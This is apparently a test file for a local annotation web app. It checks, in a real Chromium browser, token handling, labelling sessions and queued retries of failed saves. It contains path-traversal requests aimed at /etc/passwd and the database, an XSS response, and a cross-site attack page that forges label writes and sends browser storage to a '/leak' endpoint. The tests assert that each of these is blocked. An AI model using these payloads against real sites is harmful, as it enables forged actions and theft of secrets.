"""The annotation app in a real headless Chromium (Debian chromium + chromedriver, driven by Selenium): a full
labelling session in both modes, an XSS attempt in a response, a wrong token, path-traversal requests."""

import sqlite3

import pytest

from halluscope.core.errors import HalluscopeError
from halluscope.metrics.agreement import human_human_agreement
from halluscope.mishap.annotate import Annotations, AnnotationServer, annotation_items, export_labels, human_labels
from support import scripted
from support.view_helpers import chromium, http_get

TOKEN = "test-token-123456"


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    return scripted.build_run(tmp_path_factory.mktemp("annotate"), judge=False)


def test_http_guards(run):
    with pytest.raises(HalluscopeError, match="loopback"):
        AnnotationServer(run, host="0.0.0.0", token=TOKEN)
    with AnnotationServer(run, token=TOKEN, sample=4) as srv:
        assert srv.host == "127.0.0.1" and len(srv.items) == 4
        assert srv.url == f"http://127.0.0.1:{srv.port}/#token={TOKEN}"  # the token rides in the fragment only
        auth = {"X-Halluscope-Token": TOKEN}
        assert http_get(srv, "/api/items")[0] == 403
        assert http_get(srv, "/api/items", {"X-Halluscope-Token": "wrong-token-1234"})[0] == 403
        assert http_get(srv, "/api/items", {"Cookie": f"mishap_token={TOKEN}"})[0] == 403  # cookies are no credential
        assert http_get(srv, f"/api/items?token={TOKEN}")[0] == 403  # nor is the query string
        status, body, headers = http_get(srv, "/api/items", auth)
        assert status == 200 and b'"items"' in body and "script-src 'self'" in headers["Content-Security-Policy"]
        status, body, headers = http_get(srv, "/")  # the page itself holds no secret
        assert status == 200 and b"MISHAP annotation" in body and "Set-Cookie" not in headers
        clip = srv.items[0]["clip_id"]
        status, body, _ = http_get(srv, f"/audio/{clip}", auth)
        assert status == 200 and body[:4] == b"RIFF"
        assert http_get(srv, f"/audio/{clip}")[0] == 403
        for path in (
            "/audio/../../../../etc/passwd",
            "/audio/..%2f..%2f..%2fetc%2fpasswd",
            "/../../etc/passwd",
            "/audio/%2e%2e/halluscope.sqlite",
            "/halluscope.sqlite",
            "/static/../annotate.py",
            "/app.js/../../../etc/passwd",
            "/audio//etc/passwd",
            "/audio/" + str(run / "halluscope.sqlite"),
        ):
            status, body, _ = http_get(srv, path, auth)
            assert status == 404 and b"root:" not in body and b"SQLite" not in body, path


def test_full_labelling_session_in_chromium(run, tmp_path):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support.ui import Select, WebDriverWait

    items, _ = annotation_items(run)
    xss_items = [i for i in items if "<script>" in (i["response"] or "")]
    assert xss_items
    driver = chromium(tmp_path)
    try:
        with AnnotationServer(run, token=TOKEN) as srv:
            base = f"http://127.0.0.1:{srv.port}"
            wait = WebDriverWait(driver, 10)
            driver.get(f"{base}/#token=wrong-token-0000")  # wrong token: the page loads, no item does
            wait.until(lambda d: "forbidden: wrong or missing token" in d.find_element(By.ID, "message").text)
            driver.get(f"{base}/api/items")
            assert "forbidden" in driver.find_element(By.TAG_NAME, "body").text
            driver.get(srv.url)
            wait.until(lambda d: d.find_element(By.TAG_NAME, "body").get_attribute("data-ready") == "1")
            assert driver.current_url == base + "/"  # the token left the address bar (and the history entry)
            assert driver.execute_script("return document.cookie") == ""  # no cookie at all
            assert driver.execute_script("return sessionStorage.getItem('halluscope-mishap-token')") == TOKEN
            name = driver.find_element(By.ID, "annotator")
            name.send_keys("alice", Keys.TAB)
            wait.until(lambda d: d.find_element(By.TAG_NAME, "body").get_attribute("data-annotator") == "alice")

            # independent mode, filtered to the context strategy that carries the XSS response, labelled page by page
            Select(driver.find_element(By.ID, "f-strategy")).select_by_value("contradicted_premise")
            total = int(driver.find_element(By.ID, "pos").text.split("/")[1])
            assert total == len([i for i in items if i["strategy"] == "contradicted_premise"])
            for page in range(total):
                card = driver.find_element(By.CSS_SELECTOR, "#cards .card")
                response = card.find_element(By.CSS_SELECTOR, ".response").text
                assert response == scripted.XSS  # rendered as text, markup and all
                card.find_element(By.CSS_SELECTOR, ".note").send_keys(f"note {page}")
                card.find_element(By.CSS_SELECTOR, ".label-hallucinated").click()
                wait.until(
                    lambda d: "saved: hallucinated" in d.find_element(By.CSS_SELECTOR, "#cards .saved-label").text
                )
                driver.find_element(By.ID, "next").click()
            assert driver.execute_script("return window.__xss === undefined")  # neither onerror nor script ran
            assert driver.find_elements(By.CSS_SELECTOR, "#cards img, #cards script") == []
            # the clip is fetched with the token header and plays from a blob URL
            wait.until(lambda d: d.find_element(By.CSS_SELECTOR, "#cards .card").get_attribute("data-audio") == "ok")
            audio = driver.find_element(By.CSS_SELECTOR, "#cards audio").get_attribute("src")
            assert audio.startswith("blob:" + base + "/")
            duration = driver.execute_async_script(
                "const a = document.querySelector('#cards audio'), done = arguments[arguments.length - 1];"
                "a.onloadedmetadata = () => done(a.duration); a.onerror = () => done('error');"
                "a.preload = 'metadata'; a.load();"
            )
            assert isinstance(duration, float) and duration > 0.5  # the browser decodes the clip (CSP media-src blob:)

            # relabel the last one: a new row, the latest counts
            driver.find_element(By.CSS_SELECTOR, "#cards .label-grounded").click()
            wait.until(lambda d: "saved: grounded" in d.find_element(By.CSS_SELECTOR, "#cards .saved-label").text)

            # unlabelled-only filter hides what alice labelled
            driver.find_element(By.ID, "f-unlabelled").click()
            assert int(driver.find_element(By.ID, "pos").text.split("/")[1]) == 0

            # a second annotator, side-by-side mode: both seeds' responses to one question on one page
            driver.find_element(By.ID, "f-unlabelled").click()
            name.clear()
            name.send_keys("bob", Keys.TAB)
            wait.until(lambda d: d.find_element(By.TAG_NAME, "body").get_attribute("data-annotator") == "bob")
            Select(driver.find_element(By.ID, "mode")).select_by_value("side_by_side")
            pages = int(driver.find_element(By.ID, "pos").text.split("/")[1])
            assert pages == total // 2
            for _ in range(pages):
                cards = driver.find_elements(By.CSS_SELECTOR, "#cards .card")
                assert len(cards) == 2 and cards[0].find_element(By.CSS_SELECTOR, ".meta").text.startswith("openai/alm")
                for i, c in enumerate(cards):
                    c.find_element(By.CSS_SELECTOR, ".label-grounded" if i == 0 else ".label-hallucinated").click()
                wait.until(
                    lambda d: all(
                        s.text.startswith("saved:") for s in d.find_elements(By.CSS_SELECTOR, "#cards .saved-label")
                    )
                )
                driver.find_element(By.ID, "next").click()
            # reload: bob's labels come back from the server
            driver.get(base + "/")
            wait.until(lambda d: d.find_element(By.TAG_NAME, "body").get_attribute("data-annotator") == "bob")
            Select(driver.find_element(By.ID, "f-strategy")).select_by_value("contradicted_premise")
            assert driver.find_element(By.CSS_SELECTOR, "#cards .saved-label").text.startswith("saved:")
    finally:
        driver.quit()

    ann = Annotations(run)
    rows = ann.all()
    assert len([r for r in rows if r.annotator == "alice"]) == total + 1
    assert {r.mode for r in rows if r.annotator == "bob"} == {"side_by_side"}
    assert [r.note for r in rows if r.annotator == "alice"][:2] == ["note 0", "note 1"]
    ann.close()
    db = sqlite3.connect(f"{run}/halluscope.sqlite")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        db.execute("UPDATE mishap_annotations SET label='grounded'")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        db.execute("DELETE FROM mishap_annotations")
    db.close()
    labels = human_labels(run)
    assert sum(1 for (a, w) in labels if w == "alice") == total
    hh = human_human_agreement(labels)
    assert hh[0]["pair"] == "alice vs bob" and hh[0]["n"] == total
    assert export_labels(run, tmp_path / "labels.csv") == 2 * total


ATTACK_PAGE = """<!doctype html><html><body>
<form id="f" method="POST" action="{app}/api/label" enctype="text/plain">
<input type="hidden" name='{{"save_id":"attack-form-0001","answer_id":"{aid}","annotator":"mallory","label":"hallucinated","mode":"independent","x":"' value='"}}'>
</form>
<script>
(async () => {{
  const app = "{app}", log = [];
  const body = (id) => JSON.stringify({{save_id: id, answer_id: "{aid}", annotator: "mallory", label: "hallucinated"}});
  try {{ await fetch(app + "/api/label", {{method: "POST", mode: "no-cors", body: body("attack-nocors-01"),
                                          headers: {{"Content-Type": "text/plain", "X-Halluscope-Token": "guess-0000"}}}});
        log.push("no-cors sent"); }} catch (e) {{ log.push("no-cors failed " + e); }}
  try {{ const r = await fetch(app + "/api/label", {{method: "POST", body: body("attack-json-0001"),
                                                   headers: {{"Content-Type": "application/json"}}}});
        log.push("json " + r.status); }} catch (e) {{ log.push("json blocked " + e); }}
  try {{ const r = await fetch(app + "/api/items"); log.push("items " + r.status); }} catch (e) {{ log.push("items blocked"); }}
  // everything this origin can see of the app's secrets goes home
  const seen = {{cookie: document.cookie, local: Object.assign({{}}, localStorage),
                session: Object.assign({{}}, sessionStorage), log: log}};
  await fetch("/leak?" + encodeURIComponent(JSON.stringify(seen)));
  document.getElementById("f").submit();  // last: this navigates to the app
}})();
</script></body></html>"""


def test_another_local_port_cannot_write_or_learn_the_token(run, tmp_path, caplog):
    """A page on another 127.0.0.1 port (same-site) auto-submits a text/plain form and sends no-cors and JSON
    fetches at the app while the annotator has it open: nothing is stored, and the attacker never sees the token."""
    import json
    import logging
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
    from urllib.parse import unquote

    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support.ui import WebDriverWait

    caplog.set_level(logging.INFO, logger="halluscope.mishap.annotate")
    seen: list[tuple[str, str, dict]] = []
    driver = chromium(tmp_path)
    with AnnotationServer(run, token=TOKEN) as srv:
        page = ATTACK_PAGE.format(app=srv.origin, aid=srv.items[0]["id"]).encode()

        class Attacker(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                seen.append(("GET", self.path, dict(self.headers)))
                body = page if self.path == "/" else b""
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        attacker = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
        threading.Thread(target=attacker.serve_forever, daemon=True).start()
        try:
            wait = WebDriverWait(driver, 20)
            driver.get(srv.url)  # the annotator is logged in: the token sits in this browser
            wait.until(lambda d: d.find_element(By.TAG_NAME, "body").get_attribute("data-ready") == "1")
            driver.find_element(By.ID, "annotator").send_keys("alice", Keys.TAB)
            driver.get(f"http://127.0.0.1:{attacker.server_address[1]}/")
            wait.until(lambda d: d.current_url.startswith(srv.origin + "/api/label"))  # the form went out last
            wait.until(lambda d: d.find_element(By.TAG_NAME, "body").text)
            landed = driver.find_element(By.TAG_NAME, "body").text
        finally:
            driver.quit()
            attacker.shutdown()
            attacker.server_close()
        assert not [a for a in srv.labels.all() if a.annotator == "mallory"]  # nothing stored
        assert "forbidden: cross-origin request" in landed
        refused = [r.getMessage() for r in caplog.records if r.getMessage().startswith("refused")]
        assert any("POST /api/label" in m and "cross-origin" in m for m in refused)  # the form and the no-cors fetch
        assert sum("POST /api/label" in m for m in refused) >= 2
        assert any(m.startswith("refused OPTIONS /api/label") for m in refused)  # the JSON fetch's preflight
    leak = [p for _, p, _ in seen if p.startswith("/leak?")]
    assert len(leak) == 1
    got = json.loads(unquote(leak[0][len("/leak?") :]))
    assert got["cookie"] == "" and got["session"] == {} and TOKEN not in json.dumps(got["local"])
    assert "json blocked" in " ".join(got["log"]) and "items blocked" in got["log"]
    for _, _, headers in seen:  # no cookie at all, no header carries the token
        assert "Cookie" not in headers and not any(TOKEN in v for v in headers.values()), headers


def _wait_text(wait, css, words):
    from selenium.webdriver.common.by import By

    wait.until(lambda d: words in d.find_element(By.CSS_SELECTOR, css).text)


def test_a_failed_save_is_visible_queued_and_sent_once(run, tmp_path):
    """Stop the server mid-session: the UI says the label is not saved and keeps retrying; after a restart with the
    same token it is stored once; with a new token the user opens the new link (same tab, or after leaving the
    page) and the queued label is stored once."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support.ui import WebDriverWait

    driver = chromium(tmp_path)

    def mine(who):
        ann = Annotations(run)
        try:
            return [(a.answer_id, a.label) for a in ann.all() if a.annotator == who]
        finally:
            ann.close()

    body = lambda d: d.find_element(By.TAG_NAME, "body")  # noqa: E731
    try:
        wait = WebDriverWait(driver, 30)
        srv = AnnotationServer(run, token=TOKEN).start()
        port = srv.port
        driver.get(srv.url)
        wait.until(lambda d: body(d).get_attribute("data-ready") == "1")
        driver.find_element(By.ID, "annotator").send_keys("carol", Keys.TAB)
        wait.until(lambda d: body(d).get_attribute("data-annotator") == "carol")
        first = driver.find_element(By.CSS_SELECTOR, "#cards .card").get_attribute("data-id")

        srv.stop()  # 1. server down, restarted with the same token
        driver.find_element(By.CSS_SELECTOR, "#cards .label-hallucinated").click()
        _wait_text(wait, "#save-status", "1 label(s) NOT saved yet: the server cannot be reached")
        _wait_text(wait, "#cards .saved-label", "NOT saved yet (hallucinated)")
        assert driver.find_element(By.ID, "save-status").get_attribute("class") == "failed"
        assert body(driver).get_attribute("data-pending") == "1"
        queued = driver.execute_script(
            "return Object.keys(localStorage).filter(k => k.startsWith('halluscope-mishap-queue'))"
            ".map(k => JSON.parse(localStorage.getItem(k)).length)"
        )
        assert queued == [1]
        assert mine("carol") == []
        srv = AnnotationServer(run, token=TOKEN, port=port).start()
        wait.until(lambda d: body(d).get_attribute("data-pending") == "0")  # the retry timer sent it
        _wait_text(wait, "#cards .saved-label", "saved: hallucinated")
        assert driver.find_element(By.ID, "save-status").text == ""
        assert mine("carol") == [(first, "hallucinated")]

        srv.stop()  # 2. restarted with a new token: the page is told to open the new link
        driver.find_element(By.ID, "next").click()
        second = driver.find_element(By.CSS_SELECTOR, "#cards .card").get_attribute("data-id")
        driver.find_element(By.CSS_SELECTOR, "#cards .label-grounded").click()
        _wait_text(wait, "#save-status", "NOT saved yet")
        srv = AnnotationServer(run, token="second-token-7890", port=port).start()
        _wait_text(wait, "#save-status", "the server refused the token")
        _wait_text(wait, "#save-status", "open the new link")
        assert mine("carol") == [(first, "hallucinated")]
        driver.get(srv.url)  # pasted into the same tab: only the fragment changes
        wait.until(lambda d: body(d).get_attribute("data-pending") == "0")
        assert mine("carol") == [(first, "hallucinated"), (second, "grounded")]

        srv.stop()  # 3. the page is left while a label is queued; a fresh link later sends it
        driver.find_element(By.ID, "next").click()
        third = driver.find_element(By.CSS_SELECTOR, "#cards .card").get_attribute("data-id")
        driver.find_element(By.CSS_SELECTOR, "#cards .label-grounded").click()
        _wait_text(wait, "#save-status", "NOT saved yet")
        driver.get("about:blank")
        srv = AnnotationServer(run, token="third-token-45678", port=port).start()
        driver.get(srv.url)
        wait.until(lambda d: body(d).get_attribute("data-ready") == "1")
        wait.until(lambda d: body(d).get_attribute("data-pending") == "0")
        srv.stop()
    finally:
        driver.quit()
    assert mine("carol") == [(first, "hallucinated"), (second, "grounded"), (third, "grounded")]  # each exactly once


@pytest.mark.slow  # drives a real browser
def test_disagreements_page_in_chromium(tmp_path):
    """The refinement view (seed 001, 3.3): from the main page's link, the disagreements page lists each
    judge-human disagreement under its category with the rubric and the evidence, all as text."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    from halluscope.core.store import Store
    from halluscope.mishap.disagreements import disagreements
    from halluscope.mishap.judge import load_judgements

    run = scripted.build_run(tmp_path / "judged", seeds=(0,))
    items, _ = annotation_items(run)
    with Store(run) as store:
        verdicts = {a: j.verdict for a, j in load_judgements(store).items() if j.status == "ok"}
    ann = Annotations(run)
    for it in [it for it in items if it["id"] in verdicts][:5]:  # the human says the opposite of the judge
        ann.add(
            answer_id=it["id"],
            annotator="carol",
            label="grounded" if verdicts[it["id"]] == "hallucinated" else "hallucinated",
        )
    ann.close()
    rows = disagreements(run)
    assert len(rows) == 5 and {r["category"] for r in rows} <= {"context", "knowledge"}
    driver = chromium(tmp_path)
    try:
        with AnnotationServer(run, token=TOKEN) as srv:
            wait = WebDriverWait(driver, 10)
            driver.get(srv.url)
            wait.until(lambda d: d.find_element(By.TAG_NAME, "body").get_attribute("data-ready") == "1")
            driver.find_element(By.ID, "disagreements-link").click()  # same tab: the session's token goes along
            wait.until(lambda d: d.find_element(By.TAG_NAME, "body").get_attribute("data-ready") == "1")
            assert driver.current_url == f"http://127.0.0.1:{srv.port}/disagreements"
            summary = {
                tr.find_elements(By.TAG_NAME, "td")[0].text: int(tr.find_elements(By.TAG_NAME, "td")[2].text)
                for tr in driver.find_elements(By.CSS_SELECTOR, "#summary tbody tr")
            }
            assert summary == {c: sum(r["category"] == c for r in rows) for c in ("context", "knowledge")}
            for r in rows:
                card = driver.find_element(
                    By.CSS_SELECTOR, f".category[data-category='{r['category']}'] .card[data-answer='{r['answer_id']}']"
                )
                assert card.find_element(By.CSS_SELECTOR, ".rubric").text == " ".join(r["rubric"].split())
                assert card.find_element(By.CSS_SELECTOR, ".description").text == " ".join(r["description"].split())
                assert card.find_element(By.CSS_SELECTOR, ".question").text == " ".join(r["question"].split())
                assert f"judge: {r['judge']}" in card.find_element(By.CSS_SELECTOR, ".verdicts").text
                assert "carol: " in card.find_element(By.CSS_SELECTOR, ".verdicts").text
            assert driver.execute_script("return window.__xss === undefined")
            driver.execute_script("sessionStorage.clear()")  # without the token the page says so and shows nothing
            driver.get(f"http://127.0.0.1:{srv.port}/disagreements")
            wait.until(lambda d: "No access token" in d.find_element(By.ID, "message").text)
            assert driver.find_elements(By.CSS_SELECTOR, "#categories .card") == []
    finally:
        driver.quit()
